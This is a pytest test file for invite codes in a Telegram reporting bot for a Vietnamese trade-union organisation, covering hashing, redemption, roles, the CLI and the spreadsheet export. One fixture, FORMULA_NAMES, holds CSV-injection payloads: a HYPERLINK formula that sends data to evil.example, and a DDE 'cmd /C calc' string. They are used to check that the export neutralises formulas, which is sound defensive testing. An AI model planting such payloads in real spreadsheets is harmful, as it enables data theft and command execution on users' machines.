"""Invite codes: their shape, their storage as a hash only, redeeming them, and the invites commands."""

from __future__ import annotations

import asyncio
import re
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from bot.cli import app
from bot.domain import GRASSROOTS_KINDS, Channel, Role, Unit, UnitKind
from bot.i18n import Translator
from bot.invites import (
    IssuedInvite,
    RoleMismatchError,
    check_role_fits,
    deep_link,
    hash_code,
    issue_invite,
    looks_like_code,
    new_code,
    parse_duration,
)
from bot.org_import import check_units, read_units_file
from bot.spreadsheet import write_invites_xlsx
from storage import people
from storage import units as unit_store
from storage.db import Database
from storage.people import Identity, InviteRefusedError
from storage.timefmt import from_db
from tests.fakes import FakeClock

BOT = "CongDoanBaoCaoBot"
LINK_RE = re.compile(rf"https://t\.me/{BOT}\?start=([A-Za-z0-9_-]+)")
SAMPLE_GRASSROOTS = 36
VN = ZoneInfo("Asia/Ho_Chi_Minh")

NGUYEN_VAN_A = Identity(channel=Channel.TELEGRAM, external_id="111", chat_id="111", display_name="Nguyễn Văn A")
TRAN_THI_B = Identity(channel=Channel.TELEGRAM, external_id="222", chat_id="222", display_name="Trần Thị B")


# ---------------------------------------------------------------- helpers


def sample_path(repo: Path) -> Path:
    return repo / "bot" / "data" / "sample_units.csv"


async def load_sample(db: Database, repo: Path, clock: FakeClock) -> None:
    rows, problems = check_units(read_units_file(sample_path(repo)), [])
    assert problems == []
    await unit_store.apply_import(db, rows, actor="test", now=clock.now())


async def unit(db: Database, code: str) -> Unit:
    found = await unit_store.by_code(db, code)
    assert found is not None, code
    return found


async def issue(
    db: Database, clock: FakeClock, code: str, role: Role = Role.CHAIR, lifetime: timedelta = timedelta(days=14)
) -> IssuedInvite:
    return await issue_invite(
        db,
        unit=await unit(db, code),
        role=role,
        lifetime=lifetime,
        created_by="test",
        now=clock.now(),
        bot_username=BOT,
    )


async def redeem(db: Database, clock: FakeClock, code: str, identity: Identity = NGUYEN_VAN_A):
    return await people.redeem_invite(db, code_hash=hash_code(code), identity=identity, locale="vi", now=clock.now())


async def refusal(db: Database, clock: FakeClock, code: str, identity: Identity = NGUYEN_VAN_A) -> str:
    with pytest.raises(InviteRefusedError) as refused:
        await redeem(db, clock, code, identity)
    return refused.value.reason


async def count(db: Database, table: str) -> int:
    return int(await db.fetchval(f"SELECT count(*) FROM {table}"))


# ---------------------------------------------------------------- codes, links, durations


def test_new_codes_fit_a_telegram_deep_link_and_do_not_repeat() -> None:
    codes = [new_code() for _ in range(1000)]

    assert len(set(codes)) == len(codes)
    for code in codes:
        assert len(code) <= 64
        assert re.fullmatch(r"[A-Za-z0-9_-]+", code), code
        assert looks_like_code(code)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("A" * 16, True),
        ("A" * 64, True),
        ("abc_DEF-123_456-789", True),
        ("A" * 15, False),  # too short to be one of ours
        ("A" * 65, False),  # longer than Telegram allows
        ("", False),
        ("/start abcdefghijklmnopqrstuvwxyz", False),
        ("abcdefghijklmnop qrstuvwxyz", False),
        ("abcdefghijklmnopqrstuvwxyz\n", False),
        ("mãmãmãmãmãmãmãmãmãmã", False),
        ("abcdefghijklmnop=", False),
    ],
)
def test_looks_like_code(text: str, expected: bool) -> None:
    assert looks_like_code(text) is expected


def test_deep_link_format() -> None:
    code = new_code()

    link = deep_link(BOT, code)

    assert link == f"https://t.me/{BOT}?start={code}"
    assert LINK_RE.fullmatch(link)


def test_hash_code_is_a_stable_sha256() -> None:
    code = new_code()

    assert hash_code(code) == hash_code(code)
    assert re.fullmatch(r"[0-9a-f]{64}", hash_code(code))
    assert hash_code(code) != hash_code(new_code())
    assert code not in hash_code(code)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("14d", timedelta(days=14)),
        ("36h", timedelta(hours=36)),
        ("2w", timedelta(weeks=2)),
        (" 7D ", timedelta(days=7)),
        ("1h", timedelta(hours=1)),
    ],
)
def test_parse_duration(text: str, expected: timedelta) -> None:
    assert parse_duration(text) == expected


@pytest.mark.parametrize("text", ["0d", "0h", "abc", "14", "", "d", "-3d", "1.5d", "14 ngày", "3m", "99999d"])
def test_parse_duration_refuses(text: str) -> None:
    with pytest.raises(ValueError, match=r"14d|some time"):
        parse_duration(text)


# ---------------------------------------------------------------- issuing stores only the hash


async def test_issue_invite_stores_only_the_hash(db: Database, repo: Path, clock: FakeClock) -> None:
    await load_sample(db, repo, clock)

    issued = await issue(db, clock, "DL-BMT-001", lifetime=timedelta(days=7))

    assert issued.link == f"https://t.me/{BOT}?start={issued.code}"
    assert issued.expires_at == clock.now() + timedelta(days=7)
    for table in ("invites", "audit_log"):
        for row in await db.fetchall(f"SELECT * FROM {table}"):
            for column, value in dict(row).items():
                assert issued.code not in str(value), (table, column)
    stored = await db.fetchall("SELECT code_hash FROM invites")
    assert [r["code_hash"] for r in stored] == [hash_code(issued.code)]

    found = await people.invite_by_hash(db, hash_code(issued.code))
    assert found is not None
    assert found.id == issued.id
    assert found.unit_id == issued.unit.id
    assert found.role is Role.CHAIR
    assert found.expires_at == issued.expires_at
    assert found.usable_at(clock.now())
    assert await people.invite_by_hash(db, hash_code(new_code())) is None


# ---------------------------------------------------------------- redeeming


async def test_redeem_creates_person_identity_and_membership(db: Database, repo: Path, clock: FakeClock) -> None:
    await load_sample(db, repo, clock)
    issued = await issue(db, clock, "DL-BMT-001")
    clock.advance(hours=2)

    person, view = await redeem(db, clock, issued.code)

    assert person.full_name == "Nguyễn Văn A"
    assert person.locale == "vi"
    assert view.unit.code == "DL-BMT-001"
    assert view.membership.role is Role.CHAIR
    assert view.membership.granted_at == clock.now()
    assert await people.person_by_identity(db, Channel.TELEGRAM, "111") == person
    assert (await count(db, "people"), await count(db, "identities"), await count(db, "memberships")) == (1, 1, 1)
    used = await people.invite_by_hash(db, hash_code(issued.code))
    assert used is not None
    assert used.used_at == clock.now()
    assert used.used_by == person.id
    assert not used.usable_at(clock.now())


async def test_a_used_code_is_refused(db: Database, repo: Path, clock: FakeClock) -> None:
    await load_sample(db, repo, clock)
    issued = await issue(db, clock, "DL-BMT-001")
    await redeem(db, clock, issued.code)

    assert await refusal(db, clock, issued.code) == "used"
    assert await refusal(db, clock, issued.code, TRAN_THI_B) == "used"
    assert await count(db, "memberships") == 1
    assert await count(db, "people") == 1


async def test_an_expired_code_is_refused(db: Database, repo: Path, clock: FakeClock) -> None:
    await load_sample(db, repo, clock)
    late = await issue(db, clock, "DL-BMT-001", lifetime=timedelta(days=14))
    in_time = await issue(db, clock, "DL-BMT-002", lifetime=timedelta(days=14))

    clock.advance(days=14, seconds=-1)
    await redeem(db, clock, in_time.code)
    clock.advance(seconds=1)  # exactly expires_at

    assert await refusal(db, clock, late.code, TRAN_THI_B) == "expired"
    assert await people.person_by_identity(db, Channel.TELEGRAM, "222") is None


async def test_an_unknown_code_is_refused(db: Database, repo: Path, clock: FakeClock) -> None:
    await load_sample(db, repo, clock)
    await issue(db, clock, "DL-BMT-001")

    assert await refusal(db, clock, new_code()) == "unknown"
    assert await count(db, "people") == 0


async def test_a_revoked_code_is_refused(db: Database, repo: Path, clock: FakeClock) -> None:
    await load_sample(db, repo, clock)
    issued = await issue(db, clock, "DL-BMT-001")
    async with db.transaction() as tx:  # there is no revoke command yet; set the column as one would
        await tx.execute("UPDATE invites SET revoked_at = ? WHERE id = ?", ("2024-08-02T02:00:00+00:00", issued.id))

    assert await refusal(db, clock, issued.code) == "revoked"


async def test_one_person_may_hold_two_units(db: Database, repo: Path, clock: FakeClock) -> None:
    await load_sample(db, repo, clock)
    first = await issue(db, clock, "DL-BMT-001")
    second = await issue(db, clock, "DL-KP", role=Role.OFFICER)

    person_1, _ = await redeem(db, clock, first.code)
    person_2, _ = await redeem(db, clock, second.code)

    assert person_1.id == person_2.id
    held = await people.memberships_of(db, person_1.id)
    assert sorted((v.unit.code, v.membership.role) for v in held) == [
        ("DL-BMT-001", Role.CHAIR),
        ("DL-KP", Role.OFFICER),
    ]
    assert await count(db, "people") == 1
    assert await count(db, "identities") == 1


async def test_two_taps_on_one_link_make_one_membership(db: Database, repo: Path, clock: FakeClock) -> None:
    await load_sample(db, repo, clock)
    issued = await issue(db, clock, "DL-BMT-001")

    results = await asyncio.gather(
        redeem(db, clock, issued.code, NGUYEN_VAN_A),
        redeem(db, clock, issued.code, TRAN_THI_B),
        return_exceptions=True,
    )

    refused = [r for r in results if isinstance(r, InviteRefusedError)]
    redeemed = [r for r in results if isinstance(r, tuple)]
    assert len(redeemed) == 1, results
    assert [r.reason for r in refused] == ["used"]
    assert await count(db, "people") == 1
    assert await count(db, "memberships") == 1


# ---------------------------------------------------------------- roles and units


ROLE_FITS = {
    Role.CHAIR: GRASSROOTS_KINDS,
    Role.OFFICER: {UnitKind.UPPER},
    Role.DEPARTMENT: {UnitKind.PROVINCE},
    Role.ADMIN: set(UnitKind),
}


@pytest.mark.parametrize("role", list(Role))
@pytest.mark.parametrize("kind", list(UnitKind))
def test_check_role_fits(role: Role, kind: UnitKind) -> None:
    target = Unit(1, "X-1", "Đơn vị X", kind, None)

    if kind in ROLE_FITS[role]:
        check_role_fits(target, role)
    else:
        with pytest.raises(RoleMismatchError, match=f"{role.value}.*X-1.*{kind.value}"):
            check_role_fits(target, role)


async def test_grassroots_without_chair(db: Database, repo: Path, clock: FakeClock) -> None:
    await load_sample(db, repo, clock)

    waiting = await people.grassroots_without_chair(db)
    assert len(waiting) == SAMPLE_GRASSROOTS
    assert all(u.kind in GRASSROOTS_KINDS for u in waiting)
    assert [u.code for u in waiting] == sorted(u.code for u in waiting)

    # An officer or an admin at the unit is not its chair.
    await redeem(db, clock, (await issue(db, clock, "DL-BMT", role=Role.OFFICER)).code)
    await redeem(db, clock, (await issue(db, clock, "DL-BMT-001", role=Role.ADMIN)).code, TRAN_THI_B)
    assert len(await people.grassroots_without_chair(db)) == SAMPLE_GRASSROOTS

    await redeem(db, clock, (await issue(db, clock, "DL-BMT-001")).code)
    waiting = await people.grassroots_without_chair(db)
    assert len(waiting) == SAMPLE_GRASSROOTS - 1
    assert "DL-BMT-001" not in {u.code for u in waiting}


# ---------------------------------------------------------------- the workbook


def read_sheet(path: Path) -> list[tuple[object, ...]]:
    book = load_workbook(path)
    try:
        return list(book.worksheets[0].iter_rows(values_only=True))
    finally:
        book.close()


def test_codes_never_start_with_a_character_a_spreadsheet_or_shell_would_take_as_special() -> None:
    # A code starting with "-" would be read as an option on a command line, and a spreadsheet user typing it
    # into a cell would get a formula, so the chair would type a code that is not the stored one.
    assert all(new_code()[0].isalnum() for _ in range(5_000))


def test_exported_code_cell_is_the_code(tmp_path: Path, repo: Path, clock: FakeClock) -> None:
    t = Translator("vi", repo / "locales")
    target = Unit(7, "DL-BMT-001", "Công đoàn Công ty Cà phê", UnitKind.ENTERPRISE_STATE, 2, "DL-BMT")
    code = new_code()
    invite = IssuedInvite(1, code, target, Role.CHAIR, clock.now() + timedelta(days=14), deep_link(BOT, code))
    path = tmp_path / "invites.xlsx"

    write_invites_xlsx(path, [invite], t, VN)

    header, row = read_sheet(path)
    assert row[header.index(t("Link"))] == invite.link
    assert row[header.index(t("Invite code"))] == code


# ---------------------------------------------------------------- the command line


def cli(config_path: Path, *args: str):
    result = CliRunner().invoke(app, ["--config", str(config_path), *args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def cli_db(config_path: Path) -> sqlite3.Connection:
    conn = sqlite3.connect(config_path.parent / "data" / "test.sqlite3")
    conn.row_factory = sqlite3.Row
    return conn


def stored_invites(config_path: Path) -> list[sqlite3.Row]:
    conn = cli_db(config_path)
    try:
        return conn.execute(
            "SELECT i.*, u.code AS unit_code FROM invites i JOIN units u ON u.id = i.unit_id ORDER BY i.id"
        ).fetchall()
    finally:
        conn.close()


@pytest.fixture
def cli_sample(config_path: Path, repo: Path) -> Path:
    """The CLI's database, holding the sample organisation."""
    result = cli(config_path, "units", "import", str(sample_path(repo)))
    assert result.exit_code == 0, result.output
    return config_path


def test_cli_creates_an_invite_and_prints_its_link(cli_sample: Path) -> None:
    result = cli(cli_sample, "invites", "create", "--unit", "DL-BMT-001", "--role", "chair", "--expires", "7d")

    assert result.exit_code == 0, result.output
    links = LINK_RE.findall(result.stdout)
    assert len(links) == 1
    line = next(ln for ln in result.stdout.splitlines() if "https://" in ln)
    assert line.split()[-1].startswith(f"https://t.me/{BOT}?start=")  # "Liên kết: https://…"
    code = links[0]
    assert looks_like_code(code)
    assert "DL-BMT-001" in result.stdout
    (row,) = stored_invites(cli_sample)
    assert row["code_hash"] == hash_code(code)
    assert row["unit_code"] == "DL-BMT-001"
    assert row["role"] == "chair"
    lifetime = from_db(row["expires_at"]) - from_db(row["created_at"])
    assert lifetime == timedelta(days=7)


def test_cli_refuses_an_unknown_unit(cli_sample: Path) -> None:
    result = cli(cli_sample, "invites", "create", "--unit", "DL-NOPE-999", "--role", "chair")

    assert result.exit_code == 1
    assert "DL-NOPE-999" in result.stderr
    assert "https://" not in result.output
    assert stored_invites(cli_sample) == []


def test_cli_refuses_a_role_that_does_not_fit(cli_sample: Path) -> None:
    result = cli(cli_sample, "invites", "create", "--unit", "DL-BMT-001", "--role", "officer")

    assert result.exit_code == 1
    assert "officer" in result.stderr
    assert "DL-BMT-001" in result.stderr
    assert "https://" not in result.output
    assert stored_invites(cli_sample) == []


def test_cli_refuses_a_bad_duration(cli_sample: Path) -> None:
    result = cli(cli_sample, "invites", "create", "--unit", "DL-BMT-001", "--role", "chair", "--expires", "14")

    assert result.exit_code == 1
    assert "14" in result.stderr
    assert stored_invites(cli_sample) == []


def test_cli_export_writes_one_link_per_unit_without_a_chair(cli_sample: Path, repo: Path, tmp_path: Path) -> None:
    t = Translator("vi", repo / "locales")
    out = tmp_path / "tmp" / "x.xlsx"

    result = cli(cli_sample, "invites", "export", "--out", str(out))

    assert result.exit_code == 0, result.output
    assert str(SAMPLE_GRASSROOTS) in result.stdout
    header, *rows = read_sheet(out)
    assert len(rows) == SAMPLE_GRASSROOTS
    code_col, link_col, role_col = header.index(t("Unit code")), header.index(t("Link")), header.index(t("Role"))
    rows_by_unit = {r[code_col]: r for r in rows}
    assert len(rows_by_unit) == SAMPLE_GRASSROOTS
    assert {"DL-BMT-001", "DL-KP-012", "DL-CDVC-012"} <= set(rows_by_unit)
    assert not {"DL", "DL-BMT", "DL-KP", "DL-CDVC"} & set(rows_by_unit)
    for row in rows:
        assert LINK_RE.fullmatch(str(row[link_col])), row
        assert row[role_col] == "chair"
    # Each link's code is one stored invite for that row's unit.
    stored = {r["code_hash"]: r["unit_code"] for r in stored_invites(cli_sample)}
    for row in rows:
        link_code = LINK_RE.fullmatch(str(row[link_col])).group(1)
        assert stored[hash_code(link_code)] == row[code_col]


def test_cli_export_skips_units_that_have_a_chair(cli_sample: Path, tmp_path: Path) -> None:
    created = cli(cli_sample, "invites", "create", "--unit", "DL-BMT-001", "--role", "chair")
    code = LINK_RE.search(created.stdout).group(1)

    async def take_it() -> None:
        db = await Database.open(cli_sample.parent / "data" / "test.sqlite3")
        try:
            await people.redeem_invite(
                db, code_hash=hash_code(code), identity=NGUYEN_VAN_A, locale="vi", now=datetime.now(UTC)
            )
        finally:
            await db.close()

    asyncio.run(take_it())
    out = tmp_path / "x.xlsx"

    result = cli(cli_sample, "invites", "export", "--out", str(out))

    assert result.exit_code == 0, result.output
    _, *rows = read_sheet(out)
    assert len(rows) == SAMPLE_GRASSROOTS - 1
    assert "DL-BMT-001" not in {r[0] for r in rows}


FORMULA_NAMES = {
    "DL-BMT-013": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "DL-BMT-014": "+84 912 345 678",
    "DL-BMT-015": "-2+3",
    "DL-BMT-016": "@SUM(1+1)*cmd|' /C calc'!A0",
    "DL-BMT-017": "=1+1",
}


def test_cli_export_keeps_formula_like_unit_names_exact_as_string_cells(cli_sample: Path, tmp_path: Path) -> None:
    extra = tmp_path / "extra.csv"
    lines = ["code,name,kind,parent_code"]
    for code, name in FORMULA_NAMES.items():
        quoted = '"' + name.replace('"', '""') + '"'
        lines.append(f"{code},{quoted},public_agency,DL-BMT")
    extra.write_text("\n".join(lines) + "\n", encoding="utf-8")
    imported = cli(cli_sample, "units", "import", str(extra))
    assert imported.exit_code == 0, imported.output
    out = tmp_path / "x.xlsx"

    result = cli(cli_sample, "invites", "export", "--out", str(out))

    assert result.exit_code == 0, result.output
    sheet = load_workbook(out).worksheets[0]
    assert sheet.max_row - 1 == SAMPLE_GRASSROOTS + len(FORMULA_NAMES)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)  # nothing can run as a formula
    names = {r[0].value: r[1] for r in sheet.iter_rows(min_row=2)}
    for code, name in FORMULA_NAMES.items():
        # Exactly what was imported, typed as text: no guarding apostrophe altering the data.
        assert (names[code].value, names[code].data_type) == (name, "s")


def test_invites_workbook_keeps_phone_numbers_and_formula_text_exact(tmp_path: Path, repo: Path,
                                                                     clock: FakeClock) -> None:
    t = Translator("vi", repo / "locales")
    values = ["+84 912 345 678", "-2+3", "=1+1", "@SUM(A1)"]
    invites = [IssuedInvite(i, f"code{i}", Unit(i, f"DL-X-{i}", value, UnitKind.PUBLIC_AGENCY, 2, "DL-X"),
                            Role.CHAIR, clock.now() + timedelta(days=14), value) for i, value in enumerate(values)]
    path = tmp_path / "invites.xlsx"

    write_invites_xlsx(path, invites, t, VN)

    sheet = load_workbook(path).worksheets[0]
    for row, value in zip(sheet.iter_rows(min_row=2), values, strict=True):
        for cell in (row[1], row[5]):  # the unit's name and the link
            assert (cell.value, cell.data_type) == (value, "s")


def test_cli_export_needs_an_xlsx_name(cli_sample: Path, tmp_path: Path) -> None:
    result = cli(cli_sample, "invites", "export", "--out", str(tmp_path / "x.csv"))

    assert result.exit_code == 1
    assert stored_invites(cli_sample) == []
    assert not (tmp_path / "x.csv").exists()
